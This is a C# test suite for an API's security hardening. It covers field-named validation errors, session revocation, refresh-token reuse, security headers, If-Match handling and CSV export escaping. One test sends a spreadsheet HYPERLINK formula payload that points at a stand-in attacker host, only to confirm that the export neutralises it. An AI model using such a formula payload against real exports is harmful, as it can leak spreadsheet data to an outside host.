using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using ElectisSpace.Tests.Infrastructure;

namespace ElectisSpace.Tests.Sweep;

/// <summary>Issue 17 beyond the sweep: fields named in the 400s, sessions that end at once, safe CSV, headers, If-Match on users.</summary>
public sealed class HardeningTests(TestApp app) : IClassFixture<TestApp>
{
    private static StringContent Json(string text) => new(text, Encoding.UTF8, "application/json");

    private static async Task<string> FieldOf(HttpResponseMessage res)
    {
        var body = await HttpAssert.Status(res, HttpStatusCode.BadRequest, "VALIDATION_ERROR");
        return body.GetProperty("error").GetProperty("details")[0].GetProperty("field").GetString()!;
    }

    [Fact]
    public async Task Bad_strings_are_400_naming_the_field_and_store_nothing()
    {
        var org = await app.CreateOrgAsync();
        var c = org.Admin;
        Assert.Equal("templateName", await FieldOf(await c.PostAsync("/api/spaces", Json("{\"externalId\":\"X1\",\"templateName\":\"a\\ud800b\"}"))));
        Assert.Equal("data.note", await FieldOf(await c.PostAsync("/api/spaces", Json("{\"externalId\":\"X1\",\"data\":{\"note\":\"a\\u0000b\"}}"))));
        Assert.Equal("externalId", await FieldOf(await c.PostAsync("/api/spaces", Json("{\"externalId\":\"X1\",\"ExternalId\":\"X1\"}"))), ignoreCase: true);
        Assert.Equal("participants[1]", await FieldOf(await c.PostAsync($"/api/conference/{(await c.CreateRoomAsync("R1")).Id()}/toggle",
            Json("{\"meetingName\":\"m\",\"participants\":[\"a\",\"b\\u0001\"]}"))));
        var invalidUtf8 = new ByteArrayContent([.. "{\"name\":\"a"u8, 0xff, 0xfe, .. "\"}"u8]);
        invalidUtf8.Headers.ContentType = new("application/json");
        Assert.Equal("body", await FieldOf(await c.PostAsync("/api/people/lists", invalidUtf8)));
        Assert.Equal("search", await FieldOf(await c.GetAsync("/api/spaces?search=a%00b")));
        Assert.Equal("page", await FieldOf(await c.GetAsync("/api/spaces?page=21474838&limit=100")));
        await HttpAssert.Status(await c.GetAsync("/api/spaces?page=1000000&limit=100"), HttpStatusCode.OK);
        await HttpAssert.Status(await c.GetAsync("/api/spaces/" + new string('a', 10_000)), HttpStatusCode.NotFound, "NOT_FOUND");
        var multipart = new ByteArrayContent(Encoding.ASCII.GetBytes("--XX\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nabc"));
        multipart.Headers.TryAddWithoutValidation("Content-Type", "multipart/form-data; boundary=XX");
        await HttpAssert.Status(await c.PostAsync("/api/people/import", multipart), HttpStatusCode.BadRequest, "VALIDATION_ERROR");
        Assert.Equal(0, await app.CountAsync("SELECT count(*) FROM spaces WHERE org_id = @o", new { o = org.OrgId }));
        Assert.Equal(0, await app.CountAsync("SELECT count(*) FROM people_lists WHERE org_id = @o", new { o = org.OrgId }));
    }

    [Fact]
    public async Task Logout_ends_the_access_token_at_once()
    {
        var org = await app.CreateOrgAsync();
        var login = await org.LoginAsync(org.AdminEmail, TestApp.AdminPassword);
        var other = await org.LoginAsync(org.AdminEmail, TestApp.AdminPassword); // a second session stays alive
        await HttpAssert.Status(await app.Client(login.AccessToken).GetAsync("/api/users/me"), HttpStatusCode.OK);
        await HttpAssert.Status(await app.Client().PostAsJsonAsync("/api/auth/logout", new { refreshToken = login.RefreshToken }), HttpStatusCode.NoContent);
        await HttpAssert.Status(await app.Client(login.AccessToken).GetAsync("/api/users/me"), HttpStatusCode.Unauthorized, "UNAUTHORIZED");
        await HttpAssert.Status(await app.Client(other.AccessToken).GetAsync("/api/users/me"), HttpStatusCode.OK);
    }

    [Fact]
    public async Task Password_change_ends_every_session_and_refresh_token_reuse_ends_its_session()
    {
        var org = await app.CreateOrgAsync();
        var (_, email, token) = await org.CreateUserAsync("manager");
        var second = await org.LoginAsync(email, "User-Passw0rd");
        await HttpAssert.Status(await app.Client(token).PostAsJsonAsync("/api/auth/change-password",
            new { currentPassword = "User-Passw0rd", newPassword = "Newer-Passw0rd" }), HttpStatusCode.OK);
        await HttpAssert.Status(await app.Client(token).GetAsync("/api/users/me"), HttpStatusCode.Unauthorized, "UNAUTHORIZED");
        await HttpAssert.Status(await app.Client(second.AccessToken).GetAsync("/api/users/me"), HttpStatusCode.Unauthorized, "UNAUTHORIZED");

        var login = await org.LoginAsync(email, "Newer-Passw0rd");
        var rotated = await HttpAssert.Status(await app.Client().PostAsJsonAsync("/api/auth/refresh", new { refreshToken = login.RefreshToken }), HttpStatusCode.OK);
        var newAccess = rotated.GetProperty("accessToken").GetString()!;
        await HttpAssert.Status(await app.Client(newAccess).GetAsync("/api/users/me"), HttpStatusCode.OK);
        // The old refresh token comes back: the family is revoked, and both access tokens of that session end.
        await HttpAssert.Status(await app.Client().PostAsJsonAsync("/api/auth/refresh", new { refreshToken = login.RefreshToken }), HttpStatusCode.Unauthorized);
        await HttpAssert.Status(await app.Client(newAccess).GetAsync("/api/users/me"), HttpStatusCode.Unauthorized, "UNAUTHORIZED");
        await HttpAssert.Status(await app.Client(login.AccessToken).GetAsync("/api/users/me"), HttpStatusCode.Unauthorized, "UNAUTHORIZED");
    }

    [Fact]
    public async Task Audit_export_neutralises_formulas()
    {
        var org = await app.CreateOrgAsync();
        using var c = app.Client();
        var req = new HttpRequestMessage(HttpMethod.Post, "/api/auth/login")
            { Content = JsonContent.Create(new { email = org.AdminEmail, password = TestApp.AdminPassword, organization = org.Code }) };
        req.Headers.TryAddWithoutValidation("User-Agent", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
        await HttpAssert.Status(await c.SendAsync(req), HttpStatusCode.OK);
        var csv = await (await org.Admin.GetAsync("/api/audit/export")).Content.ReadAsStringAsync();
        Assert.Contains("'=HYPERLINK(", csv);
        Assert.DoesNotContain(",=HYPERLINK(", csv);
        Assert.DoesNotContain("\"=HYPERLINK(", csv);
    }

    [Fact]
    public async Task Security_headers_on_every_answer_and_no_store_when_signed_in()
    {
        var org = await app.CreateOrgAsync();
        foreach (var res in new[] { await org.Admin.GetAsync("/api/users/me"), await org.Admin.GetAsync("/api/nope"), await app.Client().GetAsync("/api/health") })
        {
            Assert.False(res.Headers.Contains("Server"), "no Server header");
            Assert.Equal("nosniff", Assert.Single(res.Headers.GetValues("X-Content-Type-Options")));
            Assert.Equal("no-referrer", Assert.Single(res.Headers.GetValues("Referrer-Policy")));
            Assert.Equal("DENY", Assert.Single(res.Headers.GetValues("X-Frame-Options")));
            Assert.False(res.Headers.Contains("Strict-Transport-Security"), "HSTS only over HTTPS");
        }
        Assert.True((await org.Admin.GetAsync("/api/spaces")).Headers.CacheControl?.NoStore);
    }

    [Fact]
    public async Task Users_patch_honours_If_Match()
    {
        var org = await app.CreateOrgAsync();
        var (id, _, _) = await org.CreateUserAsync("viewer");
        var got = await org.Admin.GetAsync($"/api/users/{id}");
        Assert.Equal("\"1\"", got.Headers.ETag?.Tag);
        async Task<HttpResponseMessage> Patch(string ifMatch, object body)
        {
            var req = new HttpRequestMessage(HttpMethod.Patch, $"/api/users/{id}") { Content = JsonContent.Create(body) };
            req.Headers.TryAddWithoutValidation("If-Match", ifMatch);
            return await org.Admin.SendAsync(req);
        }
        var ok = await Patch("\"1\"", new { firstName = "One" });
        Assert.Equal(2, (await HttpAssert.Status(ok, HttpStatusCode.OK)).GetProperty("version").GetInt32());
        Assert.Equal("\"2\"", ok.Headers.ETag?.Tag);
        await HttpAssert.Status(await Patch("\"1\"", new { firstName = "Stale" }), HttpStatusCode.Conflict, "CONFLICT");
        await HttpAssert.Status(await Patch("garbage", new { firstName = "X" }), HttpStatusCode.BadRequest, "VALIDATION_ERROR");
        await HttpAssert.Status(await Patch("\"1\",\"2\"", new { firstName = "X" }), HttpStatusCode.BadRequest, "VALIDATION_ERROR");
        var now = await HttpAssert.Status(await org.Admin.GetAsync($"/api/users/{id}"), HttpStatusCode.OK);
        Assert.Equal("One", now.GetProperty("firstName").GetString());
    }

    [Fact]
    public async Task Settings_patch_names_unknown_nested_keys()
    {
        var org = await app.CreateOrgAsync();
        var res = await org.Admin.PatchAsJsonAsync("/api/settings", new { csv = new { spaces = new { colums = new { Desk = "externalId" } } } });
        Assert.Equal("csv.spaces.colums", await FieldOf(res));
        Assert.Equal("aims.passwrd", await FieldOf(await org.Admin.PatchAsJsonAsync("/api/settings", new { aims = new { passwrd = "x" } })));
        var ill = await org.Admin.PatchAsJsonAsync("/api/settings", new { fieldMappings = new { space = new { name = 5 } } });
        Assert.StartsWith("fieldMappings", await FieldOf(ill));
    }

    [Fact]
    public async Task Seed_admin_takes_the_password_from_the_environment_or_standard_input()
    {
        var settings = TestApp.DefaultSettings(app.ConnectionString).Select(kv => $"--{kv.Key}={kv.Value}").ToArray();
        var code = $"E{Guid.NewGuid():N}"[..12].ToUpperInvariant();
        Environment.SetEnvironmentVariable("ELECTIS_ADMIN_PASSWORD", "Env-Passw0rd-17");
        try
        {
            Assert.Equal(0, await ElectisSpace.Standalone.Commands.SeedAdminAsync([.. settings, "--org", "Env Org", "--code", code, "--email", "env@example.test"]));
        }
        finally { Environment.SetEnvironmentVariable("ELECTIS_ADMIN_PASSWORD", null); }
        await HttpAssert.Status(await app.Client().PostAsJsonAsync("/api/auth/login", new { email = "env@example.test", password = "Env-Passw0rd-17", organization = code }), HttpStatusCode.OK);

        var code2 = $"S{Guid.NewGuid():N}"[..12].ToUpperInvariant();
        var stdin = Console.In;
        Console.SetIn(new StringReader("Stdin-Passw0rd-17\n"));
        try
        {
            Assert.Equal(0, await ElectisSpace.Standalone.Commands.SeedAdminAsync([.. settings, "--org", "Stdin Org", "--code", code2, "--email", "stdin@example.test", "--password-stdin"]));
        }
        finally { Console.SetIn(stdin); }
        await HttpAssert.Status(await app.Client().PostAsJsonAsync("/api/auth/login", new { email = "stdin@example.test", password = "Stdin-Passw0rd-17", organization = code2 }), HttpStatusCode.OK);
        // Without any source of a password: the usage, not a prompt or a default.
        Assert.Equal(64, await ElectisSpace.Standalone.Commands.SeedAdminAsync([.. settings, "--org", "None", "--email", "none@example.test"]));
    }
}
